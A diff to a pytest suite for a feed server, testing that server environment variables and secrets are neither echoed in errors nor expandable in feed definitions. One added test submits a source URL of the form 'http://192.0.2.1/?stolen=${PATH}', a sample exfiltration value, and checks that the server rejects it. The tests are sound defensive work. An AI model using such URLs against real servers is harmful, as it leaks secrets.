@@ -259,12 +259,23 @@ def test_who_may_change_feeds_and_who_sees_what(server: Api, tmp_path_factory: p
 def test_a_variable_of_the_server_is_not_told_to_who_sends_a_definition(
     server: Api, name: str, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    monkeypatch.setenv("SERVER_SECRET", "hunter2")
-    for reference in ("${SERVER_SECRET}", "${SERVER_SECRET:-x}"):
-        text = definition(name, more=f'[source]\nurl = "{reference}"\nevery = "${{SERVER_SECRET:-1s}}"\n')
+    monkeypatch.setenv("TIDEMILL_SERVER_SECRET", "hunter2")
+    for reference in ("${TIDEMILL_SERVER_SECRET}", "${TIDEMILL_SERVER_SECRET:-x}"):
+        text = definition(name, more=f'[source]\nurl = "{reference}"\nevery = "${{TIDEMILL_SERVER_SECRET:-1s}}"\n')
         document = problem(put(server, name, text), 400, "feed_invalid")
         assert "hunter2" not in str(document)
         assert f"{name}.toml:11: source.url" in str(document)
+
+
+@pytest.mark.parametrize("reference", ["${PATH}", "${PATH:-x}", "${TIDEMILL_RUNTIME}", "${TIDEMILL_KEY:-x}"])
+def test_a_feed_cannot_send_out_what_the_server_was_not_told_to_share(server: Api, name: str, reference: str) -> None:
+    text = definition(name, more=f'[source]\nurl = "http://192.0.2.1/?stolen={reference}"\n')
+    document = problem(put(server, name, text), 400, "feed_invalid")
+    [fault] = document["errors"]
+    assert (fault["path"], fault["code"]) == (f"{name}.toml:11: source.url", "variable_refused")
+    if "PATH" in reference:
+        assert "TIDEMILL_SOURCE_VARIABLES=TIDEMILL_*,PATH" in fault["message"]
+    assert server.client.get(f"/v1/feeds/{name}").status_code == 404
 
 
 def test_two_changes_at_once_both_become_versions(server: Api, name: str) -> None:
